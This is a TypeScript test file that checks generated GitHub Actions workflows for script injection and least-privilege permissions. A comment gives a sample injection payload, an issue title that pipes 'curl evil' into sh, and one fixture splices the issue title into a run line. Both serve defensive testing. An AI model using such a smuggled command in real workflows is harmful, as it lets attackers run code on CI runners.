import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { parse } from "yaml";
import { describe, expect, it } from "vitest";
import { setupFiles } from "../../src/scaffold/setup.js";
import { fromIssueWorkflow, lintWorkflow, pagesWorkflow } from "../../src/scaffold/workflows.js";

const ROOT = path.resolve(import.meta.dirname, "../..");

interface Step {
  name?: string;
  run?: string;
  env?: Record<string, string>;
  uses?: string;
  if?: string;
}
interface Workflow {
  permissions?: unknown;
  jobs: Record<string, { permissions?: unknown; steps: Step[]; if?: string }>;
}

/**
 * Script injection: an expression expanded inside a `run:` line becomes shell code, so a title such as
 * `"; curl evil | sh; "` runs. Untrusted values must arrive through `env:` instead.
 */
function injections(workflow: Workflow): string[] {
  const found: string[] = [];
  for (const [job, { steps }] of Object.entries(workflow.jobs))
    for (const step of steps) if (step.run && /\$\{\{/.test(step.run)) found.push(`${job}: ${step.name ?? step.run}`);
  return found;
}

const generated = (["en", "es"] as const).flatMap((lang) =>
  setupFiles(lang, { pages: true })
    .filter((f) => f.path.startsWith(".github/workflows/"))
    .map((f) => [`${lang} ${f.path}`, f.text] as const),
);
const inRepository = readdirSync(path.join(ROOT, ".github/workflows")).map(
  (name) => [`.github/workflows/${name}`, readFileSync(path.join(ROOT, ".github/workflows", name), "utf8")] as const,
);

describe("workflows", () => {
  it("are found by the injection check when they splice the issue into a shell line", () => {
    const bad = parse(`jobs:\n  x:\n    steps:\n      - run: echo "\${{ github.event.issue.title }}"\n`) as Workflow;
    expect(injections(bad)).toEqual(['x: echo "${{ github.event.issue.title }}"']);
  });

  it.each([...generated, ...inRepository])("%s is valid YAML with no expression inside a run: line", (_name, text) => {
    const workflow = parse(text) as Workflow;
    expect(injections(workflow)).toEqual([]);
    expect(workflow.permissions).toBeDefined();
  });

  it("the repository's own pull-request workflow is the one init writes", () => {
    expect(readFileSync(path.join(ROOT, ".github/workflows/incidents.yml"), "utf8")).toBe(lintWorkflow("en"));
  });

  it("turns an issue into a draft with the least permissions, the issue's text only through the environment", () => {
    for (const lang of ["en", "es"] as const) {
      const workflow = parse(fromIssueWorkflow(lang)) as Workflow & { on: unknown };
      expect(workflow.permissions).toEqual({});
      expect(workflow.on).toEqual({ issues: { types: ["opened", "labeled"] } });
      const job = workflow.jobs.draft!;
      expect(job.permissions).toEqual({ contents: "write", "pull-requests": "write" });
      expect(job.if).toContain("'incident'");
      const step = job.steps.find((s) => s.run?.includes("--from-issue"))!;
      expect(step.env).toMatchObject({
        ISSUE_TITLE: "${{ github.event.issue.title }}",
        ISSUE_BODY: "${{ github.event.issue.body }}",
        ISSUE_NUMBER: "${{ github.event.issue.number }}",
      });
      // Every use of the issue's words is a quoted variable.
      for (const name of ["ISSUE_TITLE", "ISSUE_BODY"]) {
        const uses = step.run!.match(new RegExp(`[^"]?\\$${name}[^"]?`, "g")) ?? [];
        expect(uses.length).toBeGreaterThan(0);
        for (const use of step.run!.split("\n").filter((l) => l.includes(`$${name}`)))
          expect(use).toMatch(new RegExp(`"[^"]*\\$${name}[^"]*"`));
      }
      expect(step.run).toContain('--title="$ISSUE_TITLE"');
      expect(step.run).toContain("gh pr create");
      expect(step.run).toContain("Closes #%s");
    }
  });

  it("checks pull requests with --changed-since, and skips the checks while there is no incident yet", () => {
    const workflow = parse(lintWorkflow("es")) as Workflow;
    const steps = workflow.jobs.incidents!.steps;
    expect(workflow.permissions).toEqual({ contents: "read" });
    expect(steps.find((s) => s.run?.includes("--changed-since"))!.env).toEqual({ BASE_REF: "${{ github.base_ref }}" });
    for (const step of steps.filter((s) => s.run?.includes("lessonbook"))) expect(step.if).toContain("hashFiles('incidents/**/*.md')");
  });

  it("publishes kb/site to Pages, writing only in the deploy job", () => {
    const workflow = parse(pagesWorkflow("en")) as Workflow;
    expect(workflow.permissions).toEqual({});
    expect(workflow.jobs.build!.permissions).toEqual({ contents: "read" });
    expect(workflow.jobs.deploy!.permissions).toEqual({ pages: "write", "id-token": "write" });
    expect(workflow.jobs.build!.steps.some((s) => s.run === "npx lessonbook build --html")).toBe(true);
  });
});
